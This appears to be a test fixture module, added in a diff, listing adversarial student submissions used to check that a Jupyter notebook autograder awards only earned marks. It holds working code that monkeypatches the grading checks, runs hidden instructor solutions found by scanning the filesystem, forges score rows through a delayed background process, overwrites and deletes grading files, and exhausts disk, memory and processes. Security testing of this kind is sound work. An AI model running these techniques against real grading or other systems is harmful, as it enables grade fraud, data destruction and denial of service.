@@ -1,0 +1,291 @@
+"""Adversarial submissions: what a student might hand in to get marks without the work, or to harm.
+
+Each ``Attack`` starts from the committed student version of an assignment (every exercise a
+stub), answers some exercises honestly with the instructor's solution (``solved``: the marks it
+really earned) and adds cells that attack the grader. ``tests/tools/test_grading_adversarial.py``
+grades them all in one class and checks that each gets exactly the marks it earned.
+
+Code placed in a cell may use ``{ROOT}``, ``{SCORES}``, ``{VICTIM}`` and ``{SUBMISSIONS}``: the
+checkout, the scores CSV, another student's submission and the submissions folder, as the
+grader's machine sees them (an attacker who guesses paths knows as much).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+SETUP = "setup"  # insert right after the setup cell (the first code cell)
+END = "end"  # append at the end of the notebook
+
+
+@dataclass
+class Attack:
+    """One adversarial submission and what grading it must give."""
+
+    name: str
+    # (where, code): where is SETUP, END, an exercise's grade_id (its cell's code is replaced) or
+    # a test cell's grade_id (a cell is inserted after it)
+    cells: list[tuple[str, str]] = field(default_factory=list)
+    assignment: str = "A2_gated_cells"
+    solved: tuple[str, ...] = ()  # exercises answered honestly (their test cell's grade_id)
+    marks: tuple[str, ...] | None = None  # questions that must score (default: the solved ones)
+    status: str = "ok"
+    flags: tuple[str, ...] = ()  # flags the row must carry (others may appear too)
+    edit: str = ""  # a named edit of the notebook's structure (see the test module)
+
+
+FORGERIES = [
+    Attack("renamed_exceptions", [(SETUP, """
+import builtins
+from course_utils import checks
+
+
+class NotImplementedError(Exception):
+    pass
+
+
+NotImplementedError.__name__ = NotImplementedError.__qualname__ = "ok"
+builtins.NotImplementedError = NotImplementedError
+checks.CheckFailed.__name__ = "ok"
+builtins.AssertionError = type("ok", (Exception,), {})
+""")], flags=("exception handling",)),
+    Attack("skip_tags", edit="tag_tests"),
+    Attack("custom_exception_handler", [(SETUP, """
+import sys
+get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
+sys.excepthook = lambda *args: None
+""")], flags=("get_ipython", "exception handling")),
+    Attack("code_transformers", [(SETUP, """
+import ast
+
+
+def _neuter(lines):
+    return ["pass\\n"] if any("checks" in line for line in lines) else lines
+
+
+class Empty(ast.NodeTransformer):
+    def visit_Module(self, node):
+        if "checks" in ast.unparse(node):
+            node.body = [ast.Pass()]
+        return node
+
+
+get_ipython().input_transformers_cleanup.append(_neuter)
+get_ipython().input_transformers_post.append(_neuter)
+get_ipython().ast_transformers.append(Empty())
+""")], flags=("get_ipython",)),
+    Attack("replaced_checks", [(SETUP, """
+import sys
+import types
+from course_utils import checks
+
+checks.check_cell_against_torch = lambda *args, **kwargs: "PASS"
+checks.check_close = lambda *args, **kwargs: "PASS"
+checks.check_gradient = lambda *args, **kwargs: "PASS"
+fake = types.ModuleType("course_utils.checks")
+fake.__dict__.update(vars(checks))
+sys.modules["course_utils.checks"] = fake
+"""), ("a2_init_code", """
+def init_remember(cell, value):
+    return cell
+""")], flags=("checks module",)),
+    Attack("event_callback", [(SETUP, """
+from course_utils import checks
+
+
+def _patch(*args):
+    checks.check_cell_against_torch = lambda *a, **k: "PASS"
+    checks.check_close = lambda *a, **k: "PASS"
+
+
+get_ipython().events.register("pre_run_cell", _patch)
+get_ipython().events.register("post_execute", _patch)
+"""), ("a2_init_code", "def init_remember(cell, value):\n    return cell\n")],
+        flags=("get_ipython",)),
+    Attack("patched_run_cell", [(SETUP, """
+shell_class = type(get_ipython())
+_run_cell, _run_cell_async = shell_class.run_cell, shell_class.run_cell_async
+
+
+def run_cell(self, raw_cell, *args, **kwargs):
+    return _run_cell(self, "pass" if "checks" in raw_cell else raw_cell, *args, **kwargs)
+
+
+async def run_cell_async(self, raw_cell, *args, **kwargs):
+    return await _run_cell_async(self, "pass" if "checks" in raw_cell else raw_cell, *args, **kwargs)
+
+
+shell_class.run_cell, shell_class.run_cell_async = run_cell, run_cell_async
+get_ipython().run_cell, get_ipython().run_cell_async = (run_cell.__get__(get_ipython()),
+                                                         run_cell_async.__get__(get_ipython()))
+""")], flags=("get_ipython",)),
+    Attack("patched_torch", [(SETUP, """
+torch.Tensor.item = lambda self: 0.0
+torch.isfinite = lambda t: torch.ones((), dtype=torch.bool)
+"""), ("a2_lstm_code", """
+class LSTMCell(nn.Module):
+    def __init__(self, input_size, hidden_size):
+        super().__init__()
+        self.hidden_size = hidden_size
+        n = hidden_size + input_size
+        self.W_f, self.W_i = nn.Linear(n, hidden_size), nn.Linear(n, hidden_size)
+        self.W_C, self.W_o = nn.Linear(n, hidden_size), nn.Linear(n, hidden_size)
+
+    def forward(self, x_t, state):
+        h = state[0] * 0 + self.W_f.bias * 0 + x_t.sum() * 0
+        return h, (h, h)
+""")]),
+    Attack("background_thread", [(SETUP, """
+import threading
+import time
+from course_utils import checks
+
+
+def _keep_patching():
+    while True:
+        checks.check_cell_against_torch = lambda *a, **k: "PASS"
+        time.sleep(0.0005)
+
+
+threading.Thread(target=_keep_patching, daemon=True).start()
+""")], flags=("system access",)),
+    Attack("reads_hidden_tests", [(SETUP, """
+import glob
+import json
+import os
+
+paths = [r"{ROOT}/notebooks/assignments/A2_gated_cells.ipynb"]
+for top in ("/work", "/root", "/home", "/srv", "/opt", "/tmp", "/mnt"):
+    paths += glob.glob(top + "/**/A2_gated_cells.ipynb", recursive=True)
+for path in paths:
+    try:
+        cells = json.load(open(path))["cells"]
+    except Exception:
+        continue
+    for cell in cells:
+        text = "".join(cell["source"])
+        if "BEGIN SOLUTION" in text:
+            exec(text, globals())
+""")], flags=("dynamic code", "system access")),
+    Attack("lying_tensor", [("a1_rnn_step_code", """
+class Zero(torch.Tensor):
+    def __sub__(self, other):
+        return torch.zeros_like(other)
+
+
+def rnn_step(x_t, h_prev, params):
+    return torch.zeros_like(h_prev).as_subclass(Zero)
+""")], assignment="A1_rnns_by_hand", flags=("dynamic code",)),
+    Attack("lying_tensor_made_in_the_check", [("a1_rnn_step_code", """
+def rnn_step(x_t, h_prev, params):
+    zero = type("Zero", (torch.Tensor,), {"__sub__": lambda self, other: torch.zeros_like(other)})
+    return torch.zeros_like(h_prev).as_subclass(zero)
+""")], assignment="A1_rnns_by_hand", flags=("dynamic code",)),
+]
+
+HARM = [
+    Attack("vandal", [(SETUP, """
+import os
+import socket
+import urllib.request
+
+targets = [r"{ROOT}/notebooks/assignments/A2_gated_cells.ipynb", r"{VICTIM}", r"{SCORES}",
+           r"{ROOT}/course_utils/checks.py", r"{ROOT}/tools/grading.py", "/tmp/planted"]
+for path in targets:
+    try:
+        with open(path, "w") as f:
+            f.write("pass")
+    except OSError:
+        pass
+for target in (r"{SUBMISSIONS}", r"{ROOT}"):
+    try:
+        for name in os.listdir(target):
+            os.remove(os.path.join(target, name))
+    except OSError:
+        pass
+try:
+    urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
+    leaked = True
+except Exception:
+    leaked = False
+try:
+    socket.create_connection(("1.1.1.1", 53), timeout=3)
+except OSError:
+    pass
+for folder in (os.path.expanduser("~"), "/tmp", os.getcwd()):  # 1 GB each: more than there is room for
+    try:
+        with open(os.path.join(folder, "fill"), "wb") as f:
+            for _ in range(64):
+                f.write(bytes(16 * 1024 * 1024))
+    except OSError:
+        pass
+try:
+    hog = bytearray(200 * 1024 ** 3)  # more memory than the sandbox allows
+except MemoryError:
+    hog = None
+os.write(1, b"\\xff\\xfe\\xc3( not utf-8 \\x80")  # undecodable bytes on the kernel's own stdout and stderr
+os.write(2, b"\\xff\\xfe\\xc3( not utf-8 \\x80")
+print("x" * 40_000_000)  # a 40 MB output message
+"""), (END, """
+import subprocess
+import sys
+
+subprocess.Popen(["sh", "-c", "sleep 120; echo 'mallory,A2_gated_cells,3,3,1,7,7,ok' >> '{SCORES}'"],
+                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+subprocess.Popen([sys.executable, "-c", "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n"
+                  "    time.sleep(120)"], start_new_session=True)
+""")], solved=("a2_init",), flags=("system access",)),
+    Attack("fork_storm", [(END, """
+import os
+import time
+
+children = 0
+for _ in range(5000):
+    try:
+        if os.fork() == 0:
+            time.sleep(120)
+            os._exit(0)
+        children += 1
+    except OSError:
+        break
+print(children, "processes started")
+""")], solved=("a2_init",), flags=("system access",)),
+    Attack("ignores_interrupt", [("a2_lstm", """
+import signal
+
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+""")], solved=("a2_lstm", "a2_gru"), marks=("a2_lstm",), status="timeout", flags=("system access",)),
+    Attack("kernel_exits", [("a2_lstm", "import os\nos._exit(3)\n")], solved=("a2_lstm", "a2_init"),
+           marks=("a2_lstm",), status="kernel died", flags=("system access",)),
+]
+
+HONEST = [
+    Attack("honest_partial", assignment="A1_rnns_by_hand", solved=("a1_rnn_step", "a1_rnn_backward")),
+    Attack("reference_implementation", [("a1_rnn_step_code", """
+def rnn_step(x_t, h_prev, params):
+    return bptt.rnn_forward(params, x_t[:, None], h_prev)["H"][:, 0]
+""")], assignment="A1_rnns_by_hand", marks=("a1_rnn_step",), flags=("reference implementation",)),
+]
+
+STRUCTURE = [  # every test cell deleted, every id removed, and a byte-order mark
+    Attack("restructured", solved=("a2_init",), edit="strip_ids"),
+]
+
+KNOWN = [  # attacks that still work: the test marks them as expected failures, README lists them
+    Attack("fake_kernel_reply", [(SETUP, """
+kernel_class = type(get_ipython().kernel)
+
+
+async def do_execute(self, code, silent, store_history=True, user_expressions=None,
+                     allow_stdin=False, **kwargs):
+    return {"status": "ok", "execution_count": self.execution_count, "user_expressions": {},
+            "payload": []}
+
+
+kernel_class.do_execute = do_execute
+""")], flags=("get_ipython",)),
+]
+
+ATTACKS = FORGERIES + HARM + HONEST + STRUCTURE + KNOWN
